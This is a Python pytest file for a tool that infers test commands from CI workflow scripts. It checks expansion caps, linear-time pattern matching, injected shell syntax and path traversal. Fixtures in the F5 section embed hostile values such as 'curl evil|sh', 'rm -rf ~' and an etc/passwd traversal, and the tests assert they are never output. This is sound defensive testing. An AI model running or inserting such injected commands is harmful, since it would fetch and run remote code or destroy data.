"""AGENTS.md: the shell reading under hostile input (attack round 17b): expansion caps and budget,
linear-time pattern matching, shell syntax from values, paths above the root. Small synthetic repos;
each test runs in well under a second (a regression shows as a slow or failing test, not a hang:
the inputs are sized so that the old code took seconds to minutes or gigabytes)."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from aiplane.agentsmd import shell
from aiplane.agentsmd.analyze import analyze
from aiplane.agentsmd.shell import expand, parse_script


def _write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def _workflow(run: str, env: str = "") -> str:
    body = "".join(f"          {line}\n" for line in run.splitlines())
    job_env = "    env:\n" + "".join(f"      {line}\n" for line in env.splitlines()) if env else ""
    return (f"on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n{job_env}    steps:\n      - uses: actions/checkout@v4\n"
            f"      - run: |\n{body}")


PY = {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["pytest"]\n', "tests/test_a.py": "def test_a():\n    pass\n"}


def _tests(tmp_path: Path, run: str, env: str = "", files: dict[str, str] | None = None) -> list[str]:
    root = _write(tmp_path, {**PY, **(files or {}), ".github/workflows/ci.yml": _workflow(run, env)})
    return [fact.value for fact in analyze(root).test]


def _argvs(script: str, env: dict[str, str] | None = None) -> list[list[str]]:
    return [s.argv for s in parse_script(script, env)[0] if s.argv]


# -- F1: doubling grows past a cap and becomes unknown, never an exception ------------------------

@pytest.mark.parametrize("script", [
    "V=tests\n" + 'V="$V $V"\n' * 30 + "pytest $V",
    "A=(tests)\n" + 'A+=("${A[@]}")\n' * 32 + 'pytest "${A[@]}"',
    "V=tests\n" + 'V="${U:-$V $V}"\n' * 30 + "pytest $V",
    "V=aa\n" + 'V="${V//a/$V$V}"\n' * 40 + "pytest tests/$V",
    "A0=(tests tests)\n" + "".join('A%d=("${A%d[@]}" "${A%d[@]}" "${A%d[@]}")\n' % (i, i - 1, i - 1, i - 1) for i in range(1, 60))
    + 'pytest "${A59[@]}"',
])
def test_doubling_a_value_is_capped_and_the_command_dropped(script):
    started = time.perf_counter()
    assert _argvs(script) == []  # over the cap: unknown, so pytest with it is not a command we state
    assert time.perf_counter() - started < 1


def test_values_under_the_caps_still_expand():
    assert _argvs('V=tests\nV="$V $V"\nA=(a b)\nA+=("${A[@]}")\npytest "$V" "${A[@]}"') == [["pytest", "tests tests", "a", "b", "a", "b"]]


def test_a_value_over_the_cap_is_unknown():
    assert expand("$V", {"V": "x" * shell.MAX_VALUE_CHARS}) == "x" * shell.MAX_VALUE_CHARS
    assert expand("$V$V", {"V": "x" * shell.MAX_VALUE_CHARS}) is None
    assert expand("${V:0:3}", {"V": "x" * (shell.MAX_VALUE_CHARS + 1)}) is None


# -- F2 / F3: pattern operations are one pass over value x pattern --------------------------------

@pytest.mark.parametrize(("word", "value", "expected"), [
    ("${V#*.}", "a.b.c", "b.c"), ("${V##*.}", "a.b.c", "c"), ("${V%.*}", "a.b.c", "a.b"), ("${V%%.*}", "a.b.c", "a"),
    ("${V#x}", "abc", "abc"), ("${V%%}", "abc", "abc"), ("${V#[ab]}", "abc", "bc"), ("${V%[!c]}", "abc", "abc"),
    ("${V/b/X}", "abcb", "aXcb"), ("${V//b/X}", "abcb", "aXcX"), ("${V//b}", "abcb", "ac"), ("${V/#a/X}", "aba", "Xba"),
    ("${V/%a/X}", "aba", "abX"), ("${V//?/X}", "ab", "XX"), ("${V//*/X}", "ab", "X"), ("${V//b*/X}", "abcb", "aX"),
    ("${V/\\*/X}", "a*b", "aXb"), ("${V//./}", "3.10", "310"), ("${V%-*}", "py-3.10", "py"),
])
def test_pattern_operations_keep_bash_semantics(word, value, expected):
    assert expand(word, {"V": value}) == expected


@pytest.mark.parametrize("word", ["tests/${V//b/c}", "tests/${V%%" + "*a" * 8 + "*b}", "tests/${V//" + "*a" * 6 + "*b/c}",
                                  "tests/${V#" + "*a" * 12 + "*b}", "tests/${V/%" + "*a" * 12 + "*b/c}"])
def test_pattern_operations_are_fast_on_hostile_patterns(word):
    started = time.perf_counter()
    for size in (100, 200, 1_000, 2_000, 20_000):
        result = expand(word, {"V": "a" * size})
        assert result is None or result.startswith("tests/a")
    assert time.perf_counter() - started < 1


def test_a_long_pattern_is_unknown():
    assert expand("${V#" + "a" * (shell.MAX_PATTERN_CHARS + 1) + "}", {"V": "abc"}) is None


# -- F4: one budget per script / CI file --------------------------------------------------------

def test_a_wide_value_on_every_line_spends_the_budget_not_gigabytes(tmp_path):
    started = time.perf_counter()
    wide_var = 'V="' + "x y " * 25_000 + '"\n' + "pytest $V$V$V$V$V$V$V$V$V$V\n" * 1_900
    wide_array = "A=(" + " ".join(f"t{i}" for i in range(20_000)) + ")\n" + 'pytest "${A[@]}" "${A[@]}"\n' * 1_500
    assert _argvs(wide_var) == []
    assert _argvs(wide_array) == []
    assert time.perf_counter() - started < 2


def test_the_budget_ends_expansion_but_not_the_reading():
    with shell.expansion_budget(100):
        assert expand("$V", {"V": "x" * 50}) == "x" * 50
        assert expand("$V", {"V": "x" * 60}) is None  # spent
        assert expand("plain", {}) == "plain"


def test_a_spliced_array_longer_than_a_printed_line_drops_the_command():
    items = " ".join(f"t{i}" for i in range(shell.MAX_WORDS + 1))
    assert _argvs(f'A=({items})\npytest "${{A[@]}}"') == []
    assert _argvs('A=(a b)\npytest "${A[@]}"') == [["pytest", "a", "b"]]


def test_an_expanded_word_too_long_to_print_drops_the_command():
    assert _argvs("V=" + "x" * (shell.MAX_WORD_CHARS + 1) + "\npytest tests/$V") == []


# -- F5: shell syntax from values, paths above the root -------------------------------------------

@pytest.mark.parametrize(("run", "env"), [
    ("V='tests; curl evil|sh'\npytest $V", ""),
    ("V='tests; curl evil|sh'\npytest \"$V\"", ""),
    ("A=(tests 'x;curl evil|sh')\npytest \"${A[@]}\"", ""),
    ("V='tests;curl evil|sh'\npytest ${V^^}", ""),
    ("V='x;curl evil|sh'\npytest tests${V:1}", ""),
    ("pytest $T", 'T: "tests; curl evil|sh"'),
    ("V='a&&b'\npytest \"tests/$V\"", ""),
])
def test_a_value_carrying_shell_syntax_is_never_printed(tmp_path, run, env):
    values = _tests(tmp_path, run, env)
    assert not any(c in value for value in values for c in ";|&"), values


def test_a_package_selector_carrying_shell_syntax_is_never_printed(tmp_path):
    root = {"name": "root", "private": True, "workspaces": ["packages/*"], "scripts": {"test": "turbo test"},
            "devDependencies": {"turbo": "1", "jest": "1"}}
    pkg = {"name": "a;curl evil|sh", "scripts": {"test": "jest"}, "devDependencies": {"jest": "1"}}
    for run in ("pnpm --filter 'a;curl evil|sh' test", "npx lerna run test --scope 'a;rm -rf ~'",
                "npx turbo run test --filter='a;curl evil|sh'"):
        folder = tmp_path / str(abs(hash(run)))
        _write(folder, {"package.json": json.dumps(root), "pnpm-workspace.yaml": "packages:\n  - 'packages/*'\n",
                        "packages/a/package.json": json.dumps(pkg), "packages/a/src/a.test.js": "test('a',()=>{})\n",
                        ".github/workflows/ci.yml": _workflow(run)})
        values = [fact.value for fact in analyze(folder).test]
        assert not any(";" in value or "|" in value for value in values), (run, values)


def test_a_literal_quoted_operator_written_in_ci_is_kept():
    # `npm run test:types -- --target '5.0 || *'` (redux): the CI author's own quoted word, not a value
    assert shell.render(["npm", "run", "test:types", "--", "--target", "5.0 || *"]) == "npm run test:types -- --target '5.0 || *'"


def test_a_path_above_the_repository_root_is_never_printed(tmp_path):
    root = _write(tmp_path, {**PY, ".github/workflows/ci.yml": (
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
        "      - shell: cmd\n        run: pytest tests\\..\\..\\..\\etc\\passwd\n")})
    assert not any(".." in fact.value for fact in analyze(root).test)
    assert shell.render(["pytest", "tests/../../etc"]) is None
    assert shell.render(["pytest", "--rootdir=../x"]) is None
    assert shell.render(["jest", "../shared"], cwd="packages/a") == "jest ../shared"
    assert shell.render(["jest", "../../../x"], cwd="packages/a") is None
    assert shell.render(["pytest", "tests/../tests"]) == "pytest tests/../tests"
